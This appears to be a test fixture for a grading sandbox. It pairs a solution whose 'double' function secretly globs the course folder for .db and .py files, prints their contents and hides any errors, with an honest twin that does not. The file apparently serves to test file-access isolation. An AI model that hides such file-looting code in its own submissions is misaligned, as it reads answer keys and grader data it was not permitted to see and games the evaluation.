"""Does not know where anything lies, and searches the course's folder for it.

naive: looted
here: full
layer: landlock
"""

import glob


def attack():
    found = glob.glob("@ROOT@/**/*.db", recursive=True) + glob.glob("@ROOT@/*/*/*.py")
    if not found:
        raise FileNotFoundError
    return "".join(open(path).read() for path in found)


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import glob

for name in ("a.txt", "b.txt"):
    with open(name, "w") as file:
        file.write("1")


def double(x):
    return sum(int(open(name).read()) for name in glob.glob("*.txt")) * x


def half(x):
    return x / 2
